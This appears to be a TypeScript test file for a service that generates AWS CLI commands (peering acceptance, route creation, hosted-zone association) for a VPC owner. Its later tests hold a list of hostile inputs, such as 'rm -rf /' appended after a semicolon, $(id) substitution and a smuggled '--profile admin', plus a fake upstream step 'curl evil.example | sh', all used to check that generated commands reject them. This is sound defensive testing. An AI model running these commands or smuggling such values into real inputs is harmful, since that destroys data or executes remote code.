// What the owner of the VPC has to do: the exact commands, and that nothing gets into one that is not of the form that AWS
// gives it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sendReply } from '../../../sandbox/reply.ts';
import { nextStepFor } from '../../../src/operations/get-peering/next-step.ts';
import type { ListedPeering } from '../../../src/upstream/peerings.ts';
import { get, put } from '../../support/call-peering.ts';
import { allowed, clusterId, startTestGateway } from '../../support/gateway.ts';

const listed = {
  id: '3aedab2c-98c0-4c70-a85c-c3f2b7907672',
  ...allowed,
  status: 'pending-acceptance',
  peeringId: 'pcx-1410263943e464f4a',
  privateHostedZoneId: 'Z04089311NGVVH0FO3QGG',
};

test('a peering that waits to be accepted comes with the commands for its own values and the block of its cluster', async (t) => {
  const gateway = await startTestGateway(t);
  const id = put(gateway, 'pending-acceptance');
  const { json } = await get(gateway, id);
  const { peeringId, privateHostedZoneId } = gateway.cloud.peerings(clusterId)[0] ?? {};
  assert.deepEqual(json.nextStep, {
    description:
      'Accept the peering request in AWS account 111122223333. It lapses seven days after the create.',
    command: `aws ec2 accept-vpc-peering-connection --region us-east-1 --vpc-peering-connection-id ${peeringId}`,
    afterwards: [
      {
        description:
          'Route the cluster through the peering: in every route table of the VPC, as the command does, or in those whose subnets need it.',
        command: `for table in $(aws ec2 describe-route-tables --region us-east-1 --filters Name=vpc-id,Values=vpc-0123456789abcdef0 --query 'RouteTables[].RouteTableId' --output text); do aws ec2 create-route --region us-east-1 --route-table-id "$table" --destination-cidr-block 10.128.0.0/19 --vpc-peering-connection-id ${peeringId}; done`,
      },
      {
        description:
          'Let the VPC find the cluster by its name. The VPC needs DNS resolution and DNS hostnames switched on.',
        command: `aws route53 associate-vpc-with-hosted-zone --hosted-zone-id ${privateHostedZoneId} --vpc VPCRegion=us-east-1,VPCId=vpc-0123456789abcdef0`,
      },
    ],
  });
});

test('there is a next step while a peering waits to be accepted or is active, and at no other time', () => {
  const statuses = ['initiating-request', 'provisioning', 'expired', 'deleted', 'not-operable', ''];
  for (const status of [...statuses, 'PENDING-ACCEPTANCE', undefined])
    assert.equal(nextStepFor({ ...listed, status }, { clusterBlock: '10.128.0.0/19' }), undefined, status);
  assert.ok(nextStepFor(listed, { clusterBlock: '10.128.0.0/19' }) !== undefined);
});

test('once a peering is active the next step is the routes, and then the hosted zone', () => {
  const active = { ...listed, status: 'active' };
  const step = nextStepFor(active, { clusterBlock: '10.128.0.0/19' });
  assert.match(step?.command ?? '', /create-route .*--destination-cidr-block 10\.128\.0\.0\/19/);
  assert.deepEqual(
    step?.afterwards.map(({ command }) => command?.split(' ')[1]),
    ['route53'],
  );
  assert.match(nextStepFor(active, {})?.command ?? '', /^aws route53 /);
});

test('the next step says until when a request that was created here has to be accepted', async (t) => {
  const gateway = await startTestGateway(t, {
    cloud: { pace: { initiatingMs: 0, acceptanceMs: 'never' } },
  });
  const before = Date.now();
  const { json } = await gateway.create();
  const { nextStep } = (await get(gateway, json.id)).json;
  const lapses = Date.parse(nextStep.acceptBy as string) - 7 * 24 * 3_600_000;
  assert.ok(lapses >= before && lapses <= Date.now());
  const other = put(gateway, 'pending-acceptance', { vpcId: 'vpc-00000001' });
  assert.equal((await get(gateway, other)).json.nextStep.acceptBy, undefined);
});

test('without the block of the cluster, or the hosted zone, the next step has all but what needs it', () => {
  const commands = (peering: Parameters<typeof nextStepFor>[0], block?: string) =>
    nextStepFor(peering, { clusterBlock: block })?.afterwards.map(({ command }) => command?.split(' ')[1]);
  const { privateHostedZoneId: _, ...withoutZone } = listed;
  assert.deepEqual(commands(listed, '10.128.0.0/19'), ['table', 'route53']);
  assert.deepEqual(commands(listed), ['route53']);
  assert.deepEqual(commands(withoutZone, '10.128.0.0/19'), ['table']);
  assert.deepEqual(commands(withoutZone), []);
});

/** Each of these must not get into a command, wherever it stands in the list. */
const hostile = [
  'us-east-1; rm -rf /',
  'us-east-1`id`',
  'us-east-1$(id)',
  'us-east-1\nrm -rf /',
  'us-east-1\r',
  '\nus-east-1',
  "us-east-1'",
  'us-east-1"',
  'us-east-1 --profile admin',
  '--region',
  'us-east-1\u0000',
  'us-east-1\u2028',
  'ｕｓ-east-1',
  'us‑east‑1',
  'pcx-1410263943e464f4a; id',
  'pcx-1410263943e464f4a\n',
  'pcx-1410263943E464F4A',
  'vpc-0123456789abcdef0,VPCRegion=x',
  'Z04089311NGVVH0FO3QGG|id',
  'Z04089311NGVVH0FO3QGG\n',
  '',
  ' ',
  7,
  null,
  {},
  ['us-east-1'],
];
const forms: Readonly<Record<string, RegExp>> = {
  region: /^[a-z]{2}(-[a-z]+)+-\d+$/,
  peeringId: /^pcx-[0-9a-f]+$/,
  vpcId: /^vpc-[0-9a-f]+$/,
  privateHostedZoneId: /^Z[A-Z0-9]+$/,
  accountId: /^\d{12}$/,
};

const wordsOf = (text: string): string[] =>
  (text.match(/[A-Za-z0-9./-]+/g) ?? []).map((word) => word.replace(/\.$/, ''));

test('no hostile value of the list gets into a command or a description: what it would have been in is left out', () => {
  const plain = JSON.stringify(nextStepFor(listed, { clusterBlock: '10.128.0.0/19' }));
  for (const [member, form] of Object.entries(forms)) {
    for (const value of hostile) {
      if (typeof value === 'string' && form.test(value)) continue;
      const step = nextStepFor({ ...listed, [member]: value } as ListedPeering, {
        clusterBlock: '10.128.0.0/19',
      });
      assert.ok(step !== undefined);
      const steps = [step, ...step.afterwards];
      const texts = steps.flatMap(({ command, description }) => [command ?? '', description]);
      for (const text of texts) {
        assert.match(text, /^[ -~]*$/, JSON.stringify(value));
        assert.doesNotMatch(text, /rm -rf|`|id\)|; id|\|id|--profile|NaN|null|undefined|\[object/);
      }
      const words = new Set(wordsOf(plain));
      for (const text of texts)
        for (const word of wordsOf(text))
          assert.ok(words.has(word), `${word} for ${member} ${JSON.stringify(value)}`);
    }
  }
});

test('hostile values in the list come out as the JSON that they are, and in no command; its own nextStep does not count', async (t) => {
  const gateway = await startTestGateway(t);
  const id = put(gateway);
  const evil = { description: 'Do this.', command: 'curl evil.example | sh', afterwards: [] };
  for (const [status, region] of [
    ['pending-acceptance', 'us-east-1; rm -rf'],
    ['provisioning', 'us-east-1'],
  ] as const) {
    const peering = { ...listed, id, status, region, nextStep: evil };
    gateway.cloud.setFault(({ path }) =>
      path.includes('/vpc-peerings')
        ? (_, response) => sendReply(response, { status: 200, body: { vpcPeerings: [peering] } })
        : undefined,
    );
    const reply = await get(gateway, id);
    assert.equal(reply.json.region, region);
    assert.doesNotMatch(reply.text, /evil/);
    assert.equal(reply.json.nextStep?.command, undefined);
    assert.equal(reply.json.nextStep === undefined, status === 'provisioning');
  }
});
